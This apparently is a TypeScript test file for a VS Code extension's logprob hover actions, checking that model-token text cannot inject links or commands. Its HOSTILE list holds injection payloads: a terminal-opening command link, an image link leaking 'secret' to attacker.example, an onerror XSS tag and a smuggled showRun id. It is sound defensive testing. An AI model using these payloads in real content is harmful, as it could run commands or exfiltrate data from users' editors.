import * as assert from 'node:assert/strict';
import { defaultCapabilities } from '../../src/core/capabilities';
import type { ActionArgs, ActionTarget, SteeringHoverContext } from '../../src/core/hoverActions';
import { hoverMarkdown } from '../../src/core/hoverMarkdown';
import {
  HOVER_COMMANDS, HOVER_ENABLED_COMMANDS, actionLink, showRunLink, actionsMarkdown, parseActionArgs, rowActions, staleReason, steeringRows, textFingerprint,
} from '../../src/core/hoverActions';
import { FORCED_TOKEN_NOTE, LOGPROBS_IGNORE_BIAS_NOTE } from '../../src/core/steering';
import type { StoredToken } from '../../src/core/tokenStore';

const HOSTILE = [
  '[x](command:workbench.action.terminal.new)',
  '[Ban](command:logprobLens.ban?%5B%7B%22answer%22%3A%22a1%22%2C%22token%22%3A0%2C%22fingerprint%22%3A%2200000000%22%7D%5D)',
  '](command:logprobLens.continueWith?[])',
  '![](https://attacker.example/?q=secret)',
  '<img src=x onerror=alert(1)>',
  '$(alert)', '`', '```', '|', '\\|', '&lt;', '', ' ', '\n\n', '<|endoftext|>', '▁the', '" onclick="x', ')', '(', '\u202e', '%5D%29',
];

/** Every markdown link in the output: [label](destination "title"). */
const links = (markdown: string): { label: string; destination: string; title: string }[] =>
  [...markdown.matchAll(/\[([^\]]*)\]\(([^\s)]*)(?: "([^"]*)")?\)/g)].map((m) => ({ label: m[1]!, destination: m[2]!, title: m[3] ?? '' }));

/** The arguments VS Code would pass: it JSON-parses the decoded query and spreads the array. */
const argsOf = (destination: string): unknown[] => JSON.parse(decodeURIComponent(destination.slice(destination.indexOf('?') + 1))) as unknown[];

describe('hover actions: links to our commands only', () => {
  it('lists exactly our four commands for isTrusted.enabledCommands', () => {
    assert.deepEqual([...HOVER_ENABLED_COMMANDS].sort(), ['logprobLens.ban', 'logprobLens.boost', 'logprobLens.continueWith', 'logprobLens.inspectToken', 'logprobLens.showRun']);
  });

  it('builds one link per action, labelled by us, pointing at our command with validated arguments', () => {
    const target: ActionTarget = { answer: 'answer-7', token: 12, tokenText: ' Australia', alternative: { index: 3, text: ' Oceania' } };
    const markdown = actionsMarkdown(target, ['continueWith', 'ban', 'boost']);
    const found = links(markdown);
    assert.deepEqual(found.map((link) => link.label), ['Continue', 'Ban', 'Boost']);
    assert.deepEqual(found.map((link) => link.destination.slice(0, link.destination.indexOf('?'))), ['command:logprobLens.continueWith', 'command:logprobLens.ban', 'command:logprobLens.boost']);
    const expected: ActionArgs = { answer: 'answer-7', token: 12, alternative: 3, fingerprint: textFingerprint(' Australia', ' Oceania') };
    for (const link of found) assert.deepEqual(argsOf(link.destination), [expected]);
    assert.equal(markdown.split(' · ').length, 3);
  });

  it('never lets a hostile token become a link: the output is only our grammar, whatever the token says', () => {
    const grammar = /^\[(?:Continue|Ban|Boost|Inspect)\]\(command:logprobLens\.(?:continueWith|ban|boost|inspectToken)\?[A-Za-z0-9%._-]+ "[A-Za-z0-9 ().-]+"\)$/;
    for (const hostile of HOSTILE) {
      for (const target of [
        { answer: 'a1', token: 0, tokenText: hostile },
        { answer: 'a1', token: 0, tokenText: 'ok', alternative: { index: 0, text: hostile } },
      ] satisfies ActionTarget[]) {
        const markdown = actionsMarkdown(target, target.alternative ? ['continueWith', 'ban', 'boost'] : ['ban', 'boost', 'inspect']);
        const parts = markdown.split(' · ');
        for (const part of parts) assert.match(part, grammar, JSON.stringify(hostile));
        assert.equal(links(markdown).length, 3, JSON.stringify(hostile));
        assert.equal(markdown.split('command:').length - 1, 3, JSON.stringify(hostile));
        for (const link of links(markdown)) assert.ok(parseActionArgs(argsOf(link.destination)[0]), JSON.stringify(hostile));
      }
    }
  });

  it('adds only our links to a hover whose tokens spell links (outside code spans, the only command: targets are ours)', () => {
    const outsideCodeSpans = (markdown: string): string => markdown.replace(/(`+)(?:(?!\1)[\s\S])*?\1/g, '');
    for (const hostile of HOSTILE) {
      const hover = hoverMarkdown([{ token: hostile, logprob: -0.5, alternatives: [{ token: hostile, logprob: -0.5 }, { token: ' safe', logprob: -1 }] }]);
      const actions = actionsMarkdown({ answer: 'a1', token: 0, tokenText: hostile, alternative: { index: 0, text: hostile } }, ['continueWith', 'ban']);
      const rendered = outsideCodeSpans(`${hover}\n\n${actions}`);
      const targets = [...rendered.matchAll(/command:[^\s)"]*/g)].map((m) => m[0].slice(0, m[0].indexOf('?')));
      assert.deepEqual(targets, ['command:logprobLens.continueWith', 'command:logprobLens.ban'], JSON.stringify(hostile));
    }
  });

  it('refuses to build a link from out-of-range ids (a caller bug, never silently encoded)', () => {
    assert.throws(() => actionLink('ban', { answer: 'has space', token: 0, tokenText: 'x' }), RangeError);
    assert.throws(() => actionLink('ban', { answer: 'a', token: -1, tokenText: 'x' }), RangeError);
    assert.throws(() => actionLink('continueWith', { answer: 'a', token: 0, tokenText: 'x', alternative: { index: 5000, text: 'y' } }), RangeError);
  });

  it('shows unavailable actions as our own italic text with a fixed reason, not as links', () => {
    const markdown = actionsMarkdown({ answer: 'a', token: 1, tokenText: 'x', alternative: { index: 0, text: 'y' } }, ['ban'], { continueWith: 'no-prefill' });
    assert.equal(links(markdown).length, 1);
    assert.match(markdown, / · _Continue: needs an assistant prefill or legacy Completions_$/);
  });
});

describe('hover actions: which actions a row offers', () => {
  const at = (model: string) => ({ model, apiStyle: 'chat' as const, endpointLabel: 'Endpoint' });

  it('offers Continue on alternatives where a prefill exists, Ban and Boost where the token can be keyed', () => {
    const vllm = defaultCapabilities({ preset: 'vLLM', apiStyle: 'chat', model: 'm' });
    assert.deepEqual(rowActions(vllm, { token: ' Oceania', id: 5 }, true, at('m')), { actions: ['continueWith', 'ban', 'boost'], disabled: {} });
    assert.deepEqual(rowActions(vllm, { token: ' Australia' }, false, at('m')), { actions: ['continueWith', 'inspect'], disabled: { ban: 'no-token-id' } });
    assert.deepEqual(rowActions(vllm, { token: ' Australia' }, false, at('m'), false), { actions: ['inspect'], disabled: { ban: 'no-token-id' } });
    // vLLM sends ids for the sampled tokens only: an alternative without one says so.
    assert.deepEqual(rowActions(vllm, { token: ' Oceania' }, true, at('m')), { actions: ['continueWith'], disabled: { ban: 'sampled-ids-only' } });
    const openAi = defaultCapabilities({ preset: 'OpenAI', apiStyle: 'chat', model: 'gpt-4o' });
    assert.deepEqual(rowActions(openAi, { token: ' Oceania' }, true, at('gpt-4o')), { actions: ['ban', 'boost'], disabled: { continueWith: 'no-prefill' } });
    assert.deepEqual(rowActions(openAi, { token: ' Oceania' }, true, at('my-deployment')).disabled, { continueWith: 'no-prefill', ban: 'no-token-id' });
    const ollama = defaultCapabilities({ preset: 'Ollama', apiStyle: 'chat', model: 'llama3.2' });
    assert.deepEqual(rowActions(ollama, { token: ' Oceania' }, true, at('llama3.2')), { actions: ['continueWith'], disabled: { ban: 'no-logit-bias' } });
  });

  it('keeps a partial character out of Continue, but lets Ban use its id', () => {
    const llamaCpp = defaultCapabilities({ preset: 'llama.cpp server', apiStyle: 'chat', model: 'm' });
    assert.deepEqual(rowActions(llamaCpp, { token: '�', bytes: [137], id: 231 }, true, at('m')), { actions: ['ban', 'boost'], disabled: { continueWith: 'partial-character' } });
    assert.deepEqual(rowActions(llamaCpp, { token: '�', bytes: [137] }, true, at('m')).disabled, { continueWith: 'partial-character', ban: 'partial-character' });
  });
});

describe('hover actions: the rows of a hover', () => {
  const llamaCpp = defaultCapabilities({ preset: 'llama.cpp server', apiStyle: 'chat', model: 'm' });
  // The recorded token " by" of the top-5 OpenAI answer (openai-chat-stream-top5-llamastack), its alternatives in
  // stored order; it is token 3 of that answer.
  const by: StoredToken = { token: ' by', logprob: -0.039, alternatives: [
    { token: ' by', logprob: -0.039 }, { token: ' is', logprob: -3.289 }, { token: ' in', logprob: -6.914 }, { token: ',', logprob: -12.539 }, { token: ' on', logprob: -16.602 },
  ] };
  const context = (overrides: Partial<SteeringHoverContext> = {}): SteeringHoverContext => ({
    answer: 'a1', tokens: [{ index: 3, stored: by }], capabilities: llamaCpp, bias: { model: 'm', apiStyle: 'chat', endpointLabel: 'Local' },
    idsUsable: true, output: 'replace', ...overrides,
  });
  const tableRows = (markdown: string): string[] => markdown.split('\n').filter((line) => line.startsWith('| ') && line.includes('`'));

  it('puts Continue (in place, and beside), Ban and Boost on each alternative row, pointing at its stored index', () => {
    const rows = tableRows(hoverMarkdown([by], steeringRows(context())));
    assert.equal(rows.length, 5);
    // Ranked by probability, the rows are " by", " is", " in", ",", " on": stored indices 0..4 in this recording.
    rows.forEach((row, alternative) => {
      const found = links(row);
      assert.deepEqual(found.map((link) => link.label), ['Continue', 'beside', 'Ban', 'Boost'], row);
      const text = by.alternatives[alternative]!.token;
      assert.deepEqual(argsOf(found[0]!.destination), [{ answer: 'a1', token: 3, alternative, fingerprint: textFingerprint(' by', text), output: 'replace' }]);
      assert.deepEqual(argsOf(found[1]!.destination), [{ answer: 'a1', token: 3, alternative, fingerprint: textFingerprint(' by', text), output: 'beside' }]);
      assert.deepEqual(argsOf(found[2]!.destination), [{ answer: 'a1', token: 3, alternative, fingerprint: textFingerprint(' by', text) }]);
    });
  });

  it('puts the token\'s own actions, Inspect included, on a line of their own under its first line', () => {
    const markdown = hoverMarkdown([by], steeringRows(context({ output: 'beside' })));
    const lines = markdown.split('\n');
    assert.match(lines[0]!, /^`␣by` · \*\*96\.18 %\*\* · logprob -0\.0390 · rank 1 of 5$/);
    assert.deepEqual(links(lines[2]!).map((link) => link.label), ['Continue', 'in place', 'Ban', 'Boost', 'Inspect']);
    assert.deepEqual(argsOf(links(lines[2]!)[4]!.destination), [{ answer: 'a1', token: 3, fingerprint: textFingerprint(' by') }]);
  });

  it('says a reason that holds for the whole hover once, under the token, not on every row', () => {
    const openAi = defaultCapabilities({ preset: 'OpenAI', apiStyle: 'chat', model: 'gpt-4o' });
    const markdown = hoverMarkdown([by], steeringRows(context({ capabilities: openAi, bias: { model: 'gpt-4o', apiStyle: 'chat', endpointLabel: 'OpenAI' } })));
    assert.equal(markdown.split('needs an assistant prefill').length - 1, 1);
    assert.match(markdown.split('\n')[2]!, /· _Continue: needs an assistant prefill or legacy Completions_$/);
    for (const row of tableRows(markdown)) assert.deepEqual(links(row).map((link) => link.label), ['Ban', 'Boost']);
  });

  it('offers Continue only on the first token of a character split over tokens', () => {
    const first: StoredToken = { token: '\\xf0\\x9f\\x92', logprob: -0.09, alternatives: [], bytes: [240, 159, 146] };
    const second: StoredToken = { token: '\\x99', logprob: 0, alternatives: [], bytes: [153] };
    const rows = steeringRows(context({ tokens: [{ index: 10, stored: first }, { index: 11, stored: second }] }));
    assert.match(rows.tokenLines(0).join('\n'), /_Continue: part of a character, not text_/);
    assert.ok(!rows.tokenLines(1).join('\n').includes('Continue'));
  });

  it('says on the forced token that the user chose it, and on a biased token what the bias was and that the logprobs ignore it', () => {
    const rows = steeringRows(context({
      forcedToken: 3,
      appliedBias: { entries: [{ text: ' by', bias: -100, source: 'string-key' }], capabilities: llamaCpp },
    }));
    const lines = rows.tokenLines(0);
    assert.equal(lines[0], FORCED_TOKEN_NOTE);
    assert.equal(lines[1], `**Banned** in this run (logit bias -100). Sent as text: the server biased every token of that text. ${LOGPROBS_IGNORE_BIAS_NOTE}`);
  });

  it('offers no Continue while the answer streams, or when no request made it, and says why', () => {
    assert.match(steeringRows(context({ continueOff: 'streaming' })).tokenLines(0).at(-1)!, /_Continue: wait until the answer is complete_$/);
    const none = steeringRows(context({ continueOff: 'no-request' }));
    assert.match(none.tokenLines(0).at(-1)!, /_Continue: this answer was not generated here, so there is no request to continue_$/);
    assert.deepEqual(links(none.alternativeCell(0, 1)).map((link) => link.label), ['Ban', 'Boost']);
  });

  it('keys nothing by ids that belong to another model', () => {
    const vllm = defaultCapabilities({ preset: 'vLLM', apiStyle: 'chat', model: 'm' });
    const withIds: StoredToken = { ...by, id: 555, alternatives: by.alternatives.map((alternative, i) => ({ ...alternative, id: 600 + i })) };
    const own = steeringRows(context({ capabilities: vllm, tokens: [{ index: 3, stored: withIds }] }));
    assert.deepEqual(links(own.alternativeCell(0, 1)).map((link) => link.label), ['Continue', 'beside', 'Ban', 'Boost']);
    const foreign = steeringRows(context({ capabilities: vllm, tokens: [{ index: 3, stored: withIds }], idsUsable: false }));
    assert.equal(foreign.alternativeCell(0, 1).split(' · ').at(-1), '_Ban, Boost: its id is from another model than the one the next run asks_');
  });

  it('adds only our own links to a hover of hostile tokens, each with arguments that validate', () => {
    const outsideCodeSpans = (markdown: string): string => markdown.replace(/(`+)(?:(?!\1)[\s\S])*?\1/g, '');
    for (const hostile of HOSTILE) {
      const stored: StoredToken = { token: hostile, logprob: -0.5, alternatives: [{ token: hostile, logprob: -0.5 }, { token: ' safe', logprob: -1 }] };
      const markdown = hoverMarkdown([stored], steeringRows(context({ tokens: [{ index: 0, stored }] })));
      const rendered = outsideCodeSpans(markdown);
      const targets = [...rendered.matchAll(/\]\((command:[^\s)"?]*)/g)].map((m) => m[1]);
      assert.ok(targets.length >= 5, JSON.stringify(hostile));
      for (const target of targets) assert.ok(HOVER_ENABLED_COMMANDS.includes(target!.slice('command:'.length)), `${JSON.stringify(hostile)}: ${target}`);
      assert.equal(rendered.split('command:').length - 1, targets.length, JSON.stringify(hostile));
      for (const link of links(rendered)) assert.ok(parseActionArgs(argsOf(link.destination)[0]), JSON.stringify(hostile));
    }
  });
});

describe('hover actions: validating a command\'s argument', () => {
  const valid = { answer: 'a-1_B', token: 4, alternative: 2, fingerprint: '0a1b2c3d' };

  it('accepts exactly the fields, types and ranges', () => {
    assert.deepEqual(parseActionArgs(valid), valid);
    assert.deepEqual(parseActionArgs({ answer: 'a', token: 0, fingerprint: 'ffffffff' }), { answer: 'a', token: 0, fingerprint: 'ffffffff' });
    assert.deepEqual(parseActionArgs(JSON.parse(JSON.stringify(valid))), valid);
    assert.deepEqual(parseActionArgs({ ...valid, output: 'beside' }), { ...valid, output: 'beside' });
  });

  it('rejects wrong types, extra or missing fields, huge or fractional values and odd objects', () => {
    const rejected: unknown[] = [
      undefined, null, 7, 'a', [valid], Object.assign(Object.create(null) as object, valid), new Date(),
      { ...valid, extra: 1 }, JSON.parse('{"answer":"a","token":1,"fingerprint":"00000000","__proto__":{"x":1}}'),
      { answer: 'a', token: 1 }, { token: 1, fingerprint: '00000000' },
      { ...valid, token: -1 }, { ...valid, token: 1.5 }, { ...valid, token: 1e12 }, { ...valid, token: Number.NaN }, { ...valid, token: '4' },
      { ...valid, alternative: 1001 }, { ...valid, alternative: -1 }, { ...valid, alternative: null }, { ...valid, alternative: undefined },
      { ...valid, answer: '' }, { ...valid, answer: 'a/b' }, { ...valid, answer: 'x'.repeat(65) }, { ...valid, answer: 'a\u0000' },
      { ...valid, fingerprint: '0A1B2C3D' }, { ...valid, fingerprint: '0a1b2c3' }, { ...valid, fingerprint: 12345678 },
      { ...valid, output: 'elsewhere' }, { ...valid, output: null },
    ];
    for (const value of rejected) assert.equal(parseActionArgs(value), undefined, String(JSON.stringify(value)));
  });
});

describe('hover actions: stale links', () => {
  const args = (alternative?: number): ActionArgs => ({ answer: 'a', token: 3, ...(alternative !== undefined ? { alternative } : {}), fingerprint: textFingerprint(' Paris', alternative !== undefined ? ' Lyon' : undefined) });

  it('acts only while the tracked token still has the same text', () => {
    assert.equal(staleReason(args(), { tokenText: ' Paris' }), undefined);
    assert.equal(staleReason(args(1), { tokenText: ' Paris', alternativeText: ' Lyon' }), undefined);
  });

  it('refuses when the answer is gone, the token changed, or the alternative is no longer there', () => {
    assert.match(staleReason(args(), undefined)!, /no longer tracked/);
    assert.match(staleReason(args(), { tokenText: ' paris' })!, /changed since the hover/);
    assert.match(staleReason(args(1), { tokenText: ' Paris', alternativeText: ' Nice' })!, /changed since the hover/);
    assert.match(staleReason(args(1), { tokenText: ' Paris' })!, /alternative is no longer there/);
  });

  it('fingerprints with FNV-1a: known vectors, and token/alternative boundaries matter', () => {
    // FNV-1a 32-bit reference values: "" -> 811c9dc5, "a" -> e40c292c, "foobar" -> bf9cf968.
    assert.equal(textFingerprint(''), '811c9dc5');
    assert.equal(textFingerprint('a'), 'e40c292c');
    assert.equal(textFingerprint('foobar'), 'bf9cf968');
    assert.notEqual(textFingerprint('ab', 'c'), textFingerprint('a', 'bc'));
    assert.equal(Object.keys(HOVER_COMMANDS).length, 4);
  });

  it('links to the answer\'s run in the Runs view by its id, and to nothing for an id that is not ours', () => {
    // encodeURIComponent('["a1B-_9"]') = %5B%22a1B-_9%22%5D
    assert.equal(showRunLink('a1B-_9'), '[Show in Runs view](command:logprobLens.showRun?%5B%22a1B-_9%22%5D "Select this answer\'s run in the Runs view")');
    assert.equal(showRunLink('x) [y](command:workbench.action.terminal.new'), undefined);
    assert.equal(showRunLink(''), undefined);
    assert.equal(showRunLink('a'.repeat(65)), undefined);
  });
});
